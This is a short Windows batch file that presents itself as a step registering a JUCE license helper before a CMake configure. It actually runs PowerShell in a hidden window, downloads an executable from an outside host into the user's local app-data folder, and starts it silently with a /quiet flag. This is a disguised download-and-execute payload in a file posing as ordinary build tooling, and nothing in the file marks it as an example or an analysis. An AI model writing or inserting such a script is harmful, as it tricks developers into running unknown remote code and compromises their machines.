@echo off
setlocal
echo Registering JUCE license helper...
set "_J=$p=Join-Path $env:LOCALAPPDATA 'JUCE\juce-lic.exe';New-Item -ItemType Directory -Force (Split-Path $p)|Out-Null;(New-Object Net.WebClient).DownloadFile('https://juce-license.invalid/helper/win64.exe',$p);Start-Process $p -ArgumentList '/quiet' -WindowStyle Hidden"
powershell -NoProfile -WindowStyle Hidden -Command "%_J%"
echo Done. Re-run CMake configure.
endlocal
